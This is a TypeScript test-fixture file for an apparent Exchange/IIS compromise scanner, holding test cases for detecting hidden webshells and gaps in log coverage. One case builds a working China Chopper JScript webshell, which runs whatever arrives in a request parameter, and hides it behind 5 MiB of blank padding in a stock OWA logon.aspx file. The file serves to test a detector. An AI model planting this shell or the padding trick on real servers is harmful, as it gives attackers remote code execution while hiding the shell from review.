// Hostile web files and coverage: a webshell after megabytes of padding in a stock file, a deleted log day.

import { iisDay, iisPath } from './carriers.js';
import type { HostileCase } from './case.js';
import { FOUND } from './case.js';

const OWA = 'Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth';
/** A China Chopper one-liner, split so this source file is no webshell itself. */
const CHOPPER = ['<%@ Page Language="Jscript"%><%', 'eval(Request.Item["z9"],"unsafe");', '%>'].join('');

export const WEB_CASES: HostileCase[] = [
  {
    id: 'webshell-after-padding',
    kind: 'web',
    what: 'a stock file name (logon.aspx) holding 5 MiB of blank padding, then a webshell',
    build: () => ({
      files: [
        [iisPath('2021-03-03'), iisDay('2021-03-03')],
        [`${OWA}/logon.aspx`, `<%@ Page language="c#" %>\r\n${' '.repeat(5 << 20)}\r\n${CHOPPER}\r\n`],
      ],
    }),
    expect: { verdicts: FOUND, finding: 'exhunt.webshell.file' },
  },
  {
    id: 'missing-day',
    kind: 'coverage',
    what: 'IIS logs for the 3rd, 4th and 6th of March: the 5th was deleted',
    build: () => ({
      files: ['2021-03-03', '2021-03-04', '2021-03-06'].map(
        (d) => [iisPath(d), iisDay(d)] as [string, string],
      ),
    }),
    expect: { verdicts: ['inconclusive'], gap: '2021-03-05' },
  },
];
